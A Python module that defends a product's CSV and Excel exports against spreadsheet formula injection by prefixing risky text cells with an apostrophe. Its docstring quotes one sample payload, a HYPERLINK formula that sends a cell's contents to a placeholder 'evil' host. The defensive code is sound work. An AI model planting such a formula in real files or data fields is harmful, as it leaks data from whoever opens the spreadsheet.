"""The one way the product writes a spreadsheet cell (issue 11 item 4).

A text cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage
return, or their full-width forms, which CJK spreadsheet input turns into the
ASCII ones) is a formula to Excel, LibreOffice and WPS: a customer named
``=HYPERLINK("http://evil/?"&A1, "click")`` in a manifest would run when the
depot opens the file. Every CSV and Excel export goes through this module:
text is prefixed with an apostrophe (OWASP's advice, shown by spreadsheets as
the text itself), numbers and dates are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_text(value) -> str:
    """``value`` as text that no spreadsheet reads as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_bytes(header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """A CSV in UTF-8 with a byte-order mark (without it Excel reads Chinese
    as GBK and garbles it). ``str`` cells are neutralised; other values
    (numbers, already formatted figures) pass as they are."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_text(label) for label in header])
    for row in rows:
        writer.writerow([safe_text(v) if isinstance(v, str) else v for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_text(cell) -> None:
    """Mark an openpyxl cell holding text as a plain string: openpyxl takes a
    string that starts with ``=`` for a formula otherwise."""
    if cell.value is not None:
        cell.value = str(cell.value)
        cell.data_type = "s"
